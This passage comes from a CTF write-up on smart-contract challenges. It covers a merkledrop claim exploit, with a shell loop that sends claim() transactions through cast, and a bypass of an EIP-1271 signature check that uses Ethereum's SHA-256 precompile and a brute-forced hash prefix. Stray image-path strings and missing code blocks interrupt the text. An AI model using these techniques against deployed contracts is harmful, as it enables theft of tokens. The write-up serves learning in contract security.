We need the other hash as the index! And it’s the hash of leaf 37!Remember that leaves are hashed and then their hashes are grouped in pairs and hashed again. So leaf 37’s hash is grouped with the first proof in its proofs array.

The hash of leaf 37 is:


We now have all the parameter to call claim:

  1. index: 0xd43194becc149ad7bf6db88a0ae8a6622e369b3367ba2cc97ba1ea28c407c442;
  2. address: 0xd48451c19959e2d9bd4e620fbe88aa5f6f7ea72a;
  3. amount: 0x00000f40f0c122ae08d2207b;
  4. proofs: the rest of leaf 37 proofs.

By using these parameters, we’ll claim 72033.437049132565012603 of tokens. And we also need to claim leaf 8 to claim the remaining tokens. After that, we’ll have all the tokens claimed by running only two claims.

To solve the challenge, I made this text file:

And ran this script:

while read -r line; do
  echo "CLAIM"
  echo $line| xargs cast send --private-key $private_key --legacy $distributor "claim(uint256,address,uint96,bytes32[])"
done <merkledrop


Just think of the gas savings!

In this challenge you’re attacked with a lot of psyops. The challenge really tries to push you into generating an address with 16 zero bytes (00) using tools like profanity. However, getting that many zero bytes in an address is a very-very hard computational task that cannot be solved a reasonable amount of time.

So there must beanother way.

There are multiple places in the code that offer usdifferent solutions:

  1. They tell us we can try to create sender address address that has >= 16 zeros. This is not possible.
    function solve() external {
  2. They tell us we can try to hack ecrecover. Even though there are multiple malleability possibilities with ecrecover, they’re all fixed in the code. So, nope.
    (address recovered, ECDSA.RecoverError error) = ECDSA.tryRecover(hash, signature);
    if (error == ECDSA.RecoverError.NoError && recovered == signer) {
        return true;
  3. Finally, they’re telling we can deploy a contract at an address that contains many zero bytes and implement EIP1271 in it. Again, this boils down to generating an address withmany zeros. So, nope again.
    (bool success, bytes memory result) = signer.staticcall(
        abi.encodeWithSelector(IERC1271.isValidSignature.selector, hash, signature)
    return (success && result.length == 32 && abi.decode(result, (bytes4)) == IERC1271.isValidSignature.selector);

But what if there’s already a contract at an address with >= 16 zeros? And, in fact, there multiple of them. Ethereum has multiple advanced functionalities deployed at addresses: 0x0000000000000000000000000000000000000001, 0x0000000000000000000000000000000000000002, 0x0000000000000000000000000000000000000003, etc.

If this is not what we need then what?

Looking at the list of such advanced functions and keeping in mind the restrictions we have to meet:

return (success && result.length == 32 && abi.decode(result, (bytes4)) == IERC1271.isValidSignature.selector);

We can see only one candidate: SHA-256 function deployed at 0x0000000000000000000000000000000000000002.

It’s not a smart contract so it’s code is not shown on Etherscan.But it’s there, believe me.

This brings us to the following task: find a SHA-256 hash for input data that starts with:


And the hash itself starts with 1626ba7e. We also must be aware of how ABI packs dynamic arrays:

  1. first 32 bytes store the offset of the array in calldata;
  2. second 32 bytes store the size of the array;
  3. the rest is the array itself.

So the input data to the SHA-256 precompiled contract must start with:


Where XX is the size of the byte array.

To solve the challenge, I wrote a simple Golang program that brute forces SHA-256: vanitycruncher-go.It took it about an hour to find a correct hash. (And it took me 3 attempts to fix all the bugs in the code ♂ and figure out it’s SHA-256, not Keccak ♂)

I wouldn’t have solved this challenge without @save_as_jay He reached out to me and asked for help to brute force the hash, and, by that time, I had now idea that a precompiled contract needs to beused in the challenge. So my part was only mining the hash.

We finished this challenge at late night 20 minutes before the competition was over.


This was a fantastic challenge! An absolute beast! Even though I spent a lot of time preparing to it and solving the challenges from Paradigm CTF 2021, I haven’t solve that many challenges. This means there’s a lot to learn, and this challenge became a huge motivation for me to keep pushing and get better in Solidity and smart contracts security.

Thanks for reading!